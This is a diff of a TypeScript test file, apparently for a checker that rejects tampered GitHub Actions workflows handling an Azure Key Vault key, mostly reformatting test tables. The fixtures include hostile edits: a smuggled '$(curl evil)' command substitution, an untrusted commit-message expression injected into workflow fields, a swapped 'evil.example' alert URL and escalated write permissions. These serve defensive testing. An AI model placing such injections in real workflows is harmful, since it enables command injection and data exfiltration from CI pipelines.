@@ -48,11 +48,19 @@ const steps = '    steps:\n';
 const at = '    timeout-minutes: 20\n';
 const location = '          location: eastus2\n';
 const hostile: readonly Edit[] = [
-  ['of another vault', swap('kv-contoso-cja', 'kv-other'), 'has “vault-name: kv-other”, not vault-name: kv-contoso-cja'],
+  [
+    'of another vault',
+    swap('kv-contoso-cja', 'kv-other'),
+    'has “vault-name: kv-other”, not vault-name: kv-contoso-cja',
+  ],
   ['of another tenant', swap(tenant, foreign), `, not tenant-id: ${tenant}`],
   ["of a variable's tenant", swap(tenant, '${{ vars.AZURE_TENANT_ID }}'), `, not tenant-id: ${tenant}`],
   ['of a tenant once more', put('        with:\n', `          tenant-id: ${foreign}\n`), 'has “tenant-id: 0badc0de'],
-  ['of a tenant, quoted', put('        with:\n', `          "tenant-id" : ${foreign}\n`), 'has “"tenant-id" : 0badc0de'],
+  [
+    'of a tenant, quoted',
+    put('        with:\n', `          "tenant-id" : ${foreign}\n`),
+    'has “"tenant-id" : 0badc0de',
+  ],
   ['of a tenant, escaped', put('        with:\n', `          "tenant\\u002did": ${foreign}\n`), 'has “"tenant'],
   ['that restores always', swap('${{ inputs.restore-grant }}', 'true'), 'has “restore-grant: true'],
   ['that restores nothing', swap(/ *restore-grant: \$.*\n/, ''), 'lacks restore-grant:'],
@@ -62,7 +70,11 @@ const hostile: readonly Edit[] = [
     swap(/(?<=confirmed-key-uri:).*/, ' ${{ vars.CONFIRMED }}'),
     'has “confirmed-key-uri: ${{',
   ],
-  ['with an expression', swap(/(?<=adobe-ticket: ).*/, '${{ github.event.head_commit.message }}'), 'has “adobe-ticket:'],
+  [
+    'with an expression',
+    swap(/(?<=adobe-ticket: ).*/, '${{ github.event.head_commit.message }}'),
+    'has “adobe-ticket:',
+  ],
   [
     'with one among the people',
     put(location, '          contacts: |\n            owners: ${{ github.event.head_commit.message }}\n'),
@@ -105,7 +117,11 @@ const hostile: readonly Edit[] = [
   ['with permissions of the job', put('    permissions:\n', '      contents: write\n'), 'has “contents: write'],
   ['with no approval', swap(/\|\| 'cmk-plan'/, "|| 'cmk'"), 'has “environment:'],
   ['that can run again', swap('github.run_attempt == 1', 'github.run_attempt != 0'), "has “inputs.mode == 'plan' ||"],
-  ['with a second job', (text) => `${text}  more:\n    runs-on: ubuntu-latest\n    steps: [{ run: x }]\n`, 'has “more:'],
+  [
+    'with a second job',
+    (text) => `${text}  more:\n    runs-on: ubuntu-latest\n    steps: [{ run: x }]\n`,
+    'has “more:',
+  ],
   ['in two documents', (text) => `${text}---\n${text}`, 'has “---'],
   ['of somebody else', () => 'on: push\njobs: {}\n', 'has “on: push'],
   ['of nothing', () => '# Nothing\n', 'it lacks name:'],
@@ -154,7 +170,9 @@ test('is read by the awk of every machine: busybox takes a backslash in brackets
   expect(source.match(/\[\^?[^\]\n]*\\\[.*/)).toBeNull();
 });
 
-const [uri, other] = ['01', '02'].map((each) => `https://kv-contoso-cja.vault.azure.net/keys/cja-cmk/${each.repeat(16)}`);
+const [uri, other] = ['01', '02'].map(
+  (each) => `https://kv-contoso-cja.vault.azure.net/keys/cja-cmk/${each.repeat(16)}`,
+);
 const says = (value: string) => swap(/(?<=confirmed-key-uri:).*/, ` ${value}`);
 const decoy = (value: string) => put(location, `          contacts: |\n            confirmed-key-uri: ${value}\n`);
 const unsaid = swap(/ *confirmed-key-uri:.*\n/, '');
@@ -167,10 +185,14 @@ const [asConfirmed, asRecorded] = [{ confirmed: uri }, { remembered: uri }];
 const ada = 'owners: Ada, +1 555 0100';
 const calling = (text: string) => put(location, `          contacts: |\n            ${text}\n`);
 
+interface Told {
+  readonly confirmed?: string | undefined;
+  readonly remembered?: string | undefined;
+  readonly calls?: string;
+}
+
 /** What a second run judges: what it is told now, what an earlier one was told, and what stands in the default branch by then. */
-test.each<
-  [string, Readonly<Partial<Record<'confirmed' | 'remembered' | 'calls', string>>>, (text: string) => string, string]
->([
+test.each<[says: string, told: Told, change: (text: string) => string, printed: string]>([
   ['none, in double quotes', asRecorded, says('"none until 2027-01-31"'), 'it says none, and you said'],
   ['none, in single quotes', asRecorded, says("'none until 2027-01-31'"), 'it says none, and you said'],
   ['none, with two blanks', asRecorded, says('none  until 2027-01-31'), 'it says neither'],
@@ -186,14 +208,21 @@ test.each<
   ['a key where nothing was recorded', {}, says(uri ?? ''), 'ours'],
   ['a key where none was recorded', { remembered: 'none until 2027-01-02' }, says(other ?? ''), 'ours'],
   ['somebody else to call', { calls: ada }, calling('owners: Mallory, +1 900 666'), 'stranger contacts'],
-  ['somebody else to call, on one line', { calls: ada }, put(location, `          contacts: '${ada}.'\n`), 'stranger contacts'],
+  [
+    'somebody else to call, on one line',
+    { calls: ada },
+    put(location, `          contacts: '${ada}.'\n`),
+    'stranger contacts',
+  ],
   ['nobody to call', { calls: ada }, put(location, '          # Nobody\n'), 'stranger contacts'],
   ['who was to be called', { calls: ada }, calling(ada), 'ours, changed since'],
   ['another contact for the ticket', {}, swap("'Ada'", "'Mallory'"), 'stranger ticket-contact'],
   ['the contact in other quotes', {}, swap("'Ada'", '"Ada" # still'), 'ours, changed since'],
-])('a second run finds a workflow that says %s', (_, { confirmed = '', remembered = '', calls = '' }, change, printed) => {
-  const theirs = both(says('none until 2027-01-02'), change)(setUp);
-  const around = `. ${join(parts, 'options.sh')}
+])(
+  'a second run finds a workflow that says %s',
+  (_, { confirmed = '', remembered = '', calls = '' }, change, printed) => {
+    const theirs = both(says('none until 2027-01-02'), change)(setUp);
+    const around = `. ${join(parts, 'options.sh')}
     . ${join(parts, 'set-up-said.sh')}
     read_file() { content=$(base64 -w 0 <<<"$THEIRS"); }
     remembered() { printf '%s' "$REMEMBERED"; }
@@ -201,10 +230,17 @@ test.each<
     already() { printf 'ours%s' "\${1#workflow * in branch main}"; }
     site=x default_branch=main said=$CONFIRMED confirmed=$CONFIRMED
     reviewed_file cmk-set-up.yml || printf missing`;
-  const env = { ...process.env, THEIRS: theirs.trimEnd(), CONFIRMED: confirmed, REMEMBERED: remembered, CALLS: calls };
-  const script = filled.replace('filled_in "$1"', () => around).replace('calls=()', 'calls=(${CALLS:+"$CALLS"})');
-  expect(execFileSync('bash', ['-c', script], { env, encoding: 'utf8' })).toContain(printed);
-});
+    const env = {
+      ...process.env,
+      THEIRS: theirs.trimEnd(),
+      CONFIRMED: confirmed,
+      REMEMBERED: remembered,
+      CALLS: calls,
+    };
+    const script = filled.replace('filled_in "$1"', () => around).replace('calls=()', 'calls=(${CALLS:+"$CALLS"})');
+    expect(execFileSync('bash', ['-c', script], { env, encoding: 'utf8' })).toContain(printed);
+  },
+);
 
 test('beside what a run puts into a branch, the other workflow counts as a file of others', () => {
   const script = `. ${join(parts, 'protection.sh')}; . ${join(parts, 'set-up-files.sh')}; repository=x default_branch=main
@@ -222,7 +258,11 @@ const monitor = / {6}# (- \{ name: Monitor.*\n)/;
 test.each<Edit>([
   ['with its monitor', (text) => text.replace(monitor, '      $1'), 'commit 1'],
   ['in the service region EU', swap('https://events.pagerduty', 'https://events.eu.pagerduty'), 'commit 1'],
-  ['with a command in its script', swap('"$TEAMS_URL" <<EOF', '"$TEAMS_URL" # $(curl evil) <<EOF'), 'has “curl --proto'],
+  [
+    'with a command in its script',
+    swap('"$TEAMS_URL" <<EOF', '"$TEAMS_URL" # $(curl evil) <<EOF'),
+    'has “curl --proto',
+  ],
   ['with an address of somebody else', swap('events.pagerduty.com', 'evil.example'), 'has “PAGERDUTY_URL:'],
   [
     'with another monitor',
